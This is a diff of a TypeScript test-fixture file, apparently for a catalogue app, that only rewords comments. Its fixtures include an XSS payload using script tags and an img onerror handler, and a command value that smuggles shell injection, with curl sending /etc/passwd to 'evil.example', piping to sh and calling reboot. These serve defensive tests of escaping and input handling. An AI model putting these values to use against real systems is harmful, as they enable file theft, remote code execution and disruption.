@@ -1,7 +1,7 @@
 import { readFileSync } from "node:fs";
 import { people } from "../support/people";
 
-/* The entries of these tests, beside the demo's: plain ones of each type, extreme ones, and hostile ones. */
+/* Entries added to the demo's: plain ones of each type, extreme ones, and hostile ones. */
 
 export const tag = "heron";
 
@@ -36,7 +36,7 @@ export const heron = {
 };
 
 export const hidden = "Hidden heron";
-/** Public until a test hides it, one for each width. */
+/** One for each width, public until a test hides it. */
 export const turning = (project: string) => `Turning heron of the ${project}`;
 export const doomed = (project: string) => `Doomed  heron <of> the ${project}`;
 export const turningEntry = (project: string, privacy: string) =>
@@ -80,14 +80,14 @@ const changing = ["phone", "desktop"].flatMap((project) => [
   entry({ externalId: `doomed-${project}`, type: "DATASET", name: doomed(project), authors: own.authors }),
 ]);
 
-/** Markdown that runs, loads or covers something where it is not taken as text. */
+/** Markdown that runs, loads or covers something unless it is escaped. */
 export const hostileMarkdown: string[] = JSON.parse(readFileSync(new URL("hostile-markdown.json", import.meta.url), "utf8"));
 export const flood = `${"> ".repeat(9000)}drowned`;
 
 const hostileText = `"><img src=x onerror=window.taken=1></script><script>window.taken=1</script>`;
 export const hostile = {
   tag: "hostile",
-  /** For every type, in every field that has words. */
+  /** For every type, in every text field. */
   name: (type: string) => `${type} ${hostileText}`,
   command: "https://git.example.org/a;curl$IFS-d@/etc/passwd$IFS'evil.example'|sh/$(reboot)`reboot`",
 };
